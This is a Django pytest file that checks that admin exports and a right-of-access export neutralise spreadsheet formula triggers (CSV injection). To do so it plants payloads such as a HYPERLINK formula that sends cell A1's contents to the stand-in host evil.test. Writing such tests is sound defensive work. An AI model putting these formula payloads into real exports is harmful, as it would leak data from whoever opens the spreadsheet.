"""No exported cell runs as a spreadsheet formula (OWASP CSV injection), in any export.

What is covered comes from the system itself: the exporting admins are every registered
``ModelAdmin`` with django-import-export's export; their text columns are read from each
resource's fields (a field whose path ends in a free-text column: ``CharField``,
``TextField``, text arrays, without choices); the roles are those the admin lets export;
the formats are the admin's. A payload starting with each formula trigger is planted in
every such column, every export is downloaded in every format by every role that may, and
every cell is parsed back (the csv module, openpyxl): no cell starts with a trigger unless
neutralised, no XLSX cell is a formula, and every planted payload is there, neutralised.
The right-of-access export is checked the same way, from the personal-data declarations.
"""

from __future__ import annotations

import csv
import io
import itertools
import zipfile

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.admin.utils import get_fields_from_path
from django.contrib.auth.models import Group
from django.contrib.postgres.fields import ArrayField
from django.db import models
from django.test import RequestFactory
from django.urls import reverse
from import_export.admin import ExportMixin

from compliance import export as access_export
from customer_ops.roles import Role
from customer_ops.spreadsheet import FORMULA_TRIGGERS, is_safe_cell, neutralise, sql_neutralise
from tests import factories as f

pytestmark = pytest.mark.django_db

OWASP = ("=", "+", "-", "@", "\t", "\r")
assert set(OWASP) <= set(FORMULA_TRIGGERS)


def payload(char: str, tag: str) -> str:
    return f'{char}HYPERLINK("http://evil.test/?"&A1,"Click {tag}")'


def exporting_admins() -> list:
    return [ma for ma in admin.site._registry.values() if isinstance(ma, ExportMixin)]


def _checked(model) -> set[str]:
    """Columns a CHECK constraint restricts (codes such as activity_type): no free text there."""
    names = set()

    def walk(node):
        for child in getattr(node, "children", []):
            if isinstance(child, tuple):
                names.add(child[0].split("__")[0])
            else:
                walk(child)

    for constraint in model._meta.constraints:
        if isinstance(constraint, models.CheckConstraint):
            walk(constraint.condition)
    return names


def _text_field(model, path: str):
    """The free-text model field at the end of ``path`` (``customer__full_name``), else None."""
    try:
        fields = get_fields_from_path(model, path)
    except Exception:  # noqa: BLE001 (a computed column: dehydrate_*, annotations)
        return None
    field = fields[-1]
    owner = fields[-2].related_model if len(fields) > 1 else model
    base = field.base_field if isinstance(field, ArrayField) else field
    if isinstance(base, models.CharField | models.TextField) and not base.choices and field.name not in _checked(owner):
        return field
    return None


def text_columns(model_admin) -> dict[str, models.Field]:
    """attribute path -> field, over every export resource of the admin."""
    columns = {}
    for resource_class in model_admin.resource_classes:
        for field in resource_class().get_export_fields():
            if field.attribute and (found := _text_field(model_admin.model, field.attribute)) is not None:
                columns[field.attribute] = found
    return columns


def _factory(model):
    for obj in vars(f).values():
        if isinstance(obj, type) and getattr(getattr(obj, "_meta", None), "model", None) is model:
            return obj
    raise LookupError(f"no factory for {model._meta.label}: add one to tests/factories.py")


def _value(field, text: str):
    return [text] if isinstance(field, ArrayField) else text


def plant(model_admin) -> set[str]:
    """One row per trigger whose every exported text column holds a payload; the payloads' texts."""
    model = model_admin.model
    columns = text_columns(model_admin)
    planted = set()
    for i, char in enumerate(OWASP):
        own, related = {}, {}
        for path, field in columns.items():
            text = payload(char, f"{model._meta.model_name}.{path}.{i}")
            if field.name == "email":
                text = f"{char}cmd{i}.{path.replace('__', '.')}@evil.test"
            relation, _, rest = path.partition("__")
            if rest:
                related.setdefault(relation, {})[rest] = _value(field, text)
            else:
                own[path] = _value(field, text)
            planted.add(text)
        for relation, values in related.items():
            own[relation] = _factory(model._meta.get_field(relation).related_model)(**values)
        _factory(model)(**own)
    return planted


def role_users() -> list:
    users = []
    for role in Role:
        user = f.UserFactory(username=f"export-{role.key}")
        user.groups.add(Group.objects.get(name=role.value))
        users.append(user)
    return [*users, f.UserFactory(username="export-root", is_superuser=True, is_staff=True)]


def cells_of(content: bytes, fmt: str) -> list[str]:
    """Every cell's text; asserts no XLSX cell is a formula."""
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))  # not data_only: formulas would show as such
        texts = []
        for sheet in book.worksheets:
            for cell in itertools.chain.from_iterable(sheet.iter_rows()):
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
        return texts
    return list(itertools.chain.from_iterable(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))))


def test_neutralise_follows_owasp():
    for char in FORMULA_TRIGGERS:
        assert neutralise(f"{char}1+1") == f"'{char}1+1"
        assert is_safe_cell(neutralise(f"{char}1+1")) and not is_safe_cell(f"{char}1+1")
    assert neutralise("-12.50") == "-12.50"  # a number is not a formula
    assert neutralise("'=1") == "'=1" and neutralise(None) is None and neutralise(-3) == -3
    assert neutralise("plain text") == "plain text"


def test_the_database_neutralises_as_python_does():
    """The right-of-access export lets PostgreSQL render its cells: the same rule, both sides."""
    samples = [
        f"{c}{tail}" for c in (*FORMULA_TRIGGERS, "'", "a", " ", "1") for tail in ("", "1", "1+1", "12.5", "x y")
    ]
    samples += ["", "-12.50", "+3", "-.5", "1e5", "-1e-5", "--1", "-1-1", "=", "plain", "a=b"]
    customer = f.CustomerFactory()
    row = (
        type(customer)
        .objects.filter(pk=customer.pk)
        .values_list(*[sql_neutralise(models.Value(s, output_field=models.TextField())) for s in samples])
        .get()
    )
    assert list(row) == [neutralise(s) for s in samples]


def test_no_admin_export_runs_a_formula(client):
    admins = exporting_admins()
    assert len(admins) >= 7  # tickets, disputes, five analytics tables
    planted_by_admin = {ma: plant(ma) for ma in admins}
    users = role_users()
    exports = cells = 0
    covered: dict = {ma: set() for ma in admins}
    for ma in admins:
        url = reverse(f"admin:{ma.opts.app_label}_{ma.opts.model_name}_export")
        for user in users:
            request = RequestFactory().get(url)
            request.user = user
            client.force_login(user)
            if not ma.has_export_permission(request):
                assert client.get(url).status_code == 403, (url, user.username)
                continue
            form = client.get(url).context["form"]
            fields = {name: "on" for name, field in form.fields.items() if field.__class__.__name__ == "BooleanField"}
            for resource_index, _resource in enumerate(ma.get_export_resource_classes(request)):
                for format_index, fmt in enumerate(ma.get_export_formats()):
                    response = client.post(
                        url, {"format": str(format_index), "resource": str(resource_index), **fields}
                    )
                    assert response.status_code == 200, (url, user, fmt)
                    assert response["Content-Type"] == fmt().get_content_type(), (url, user.username, fmt)
                    content = b"".join(response.streaming_content) if response.streaming else response.content
                    texts = cells_of(content, fmt().get_extension())
                    for text in texts:
                        assert is_safe_cell(text), (url, user.username, fmt, text)
                    covered[ma] |= {t[1:] for t in texts if t.startswith("'")} & planted_by_admin[ma]
                    exports += 1
                    cells += len(texts)
    for ma in admins:
        # Every planted payload came back, neutralised (no column and no row was missed).
        assert covered[ma] == planted_by_admin[ma], (ma, planted_by_admin[ma] - covered[ma])
    print(f"\n{len(admins)} exporting admins, {exports} exports, {cells} cells checked")


def _owner(model, path: list[str], customer):
    """The row ``model`` hangs from on its way to the customer (the customer, or a ticket or
    request of theirs)."""
    if len(path) == 1:
        return customer
    return _factory(model._meta.get_field(path[0]).related_model)(customer=customer)


def test_right_of_access_export_runs_no_formula(client, make_staff):
    """Payloads in every exported free-text column of the customer's own rows (from the declarations)."""
    staff = make_staff(Role.COMPLIANCE)
    customer = f.CustomerFactory(full_name=payload("=", "name"), email="@cmd@evil.test", phone="+44 7700 900123")
    planted = {customer.full_name, customer.email}
    for table in access_export.tables(staff):
        model = table.model
        if model is type(customer) or getattr(model, "instance_type", None):
            continue
        texts = {
            c: model._meta.get_field(c) for c in table.columns if _text_field(model, model._meta.get_field(c).name)
        }
        texts = {c: fld for c, fld in texts.items() if not fld.primary_key and not fld.unique}
        if not texts:
            continue  # aggregates: numbers and codes only (and one row per customer and day)
        path = table.customer_path.split("__")
        if path == ["reward", "customer"]:
            continue  # reward holds give no free text
        # One customer row only (a referral per referred customer): one row, the triggers over its columns.
        single = model._meta.get_field(path[0]).unique
        for i in range(1 if single else len(OWASP)):
            values = {
                fld.name: _value(fld, payload(OWASP[(i + j) % len(OWASP)], f"{table.name}.{c}.{i}"))
                for j, (c, fld) in enumerate(texts.items())
            }
            owner = {path[0]: _owner(model, path, customer)}
            # Rows where the only_where columns are given (the audit log's: rows the customer acted in).
            shown = {k: v for q in table.only_where.values() for k, v in q.children}
            _factory(model)(**owner, **shown, **values)
            planted |= {v for v in values.values() if isinstance(v, str)}  # arrays leave as JSON text
    client.force_login(staff)
    seen, cells = set(), 0
    response = client.post(reverse("admin:compliance_customer_export", args=[customer.pk]), {"format": "csv"})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    for name in archive.namelist():
        if name.endswith(".csv"):
            for text in cells_of(archive.read(name), "csv"):
                assert is_safe_cell(text), (name, text)
                cells += 1
                seen |= {text[1:]} if text.startswith("'") else set()
    assert planted <= seen, planted - seen
    print(f"\nright of access: {len(archive.namelist()) - 1} files, {cells} cells checked, {len(planted)} payloads")
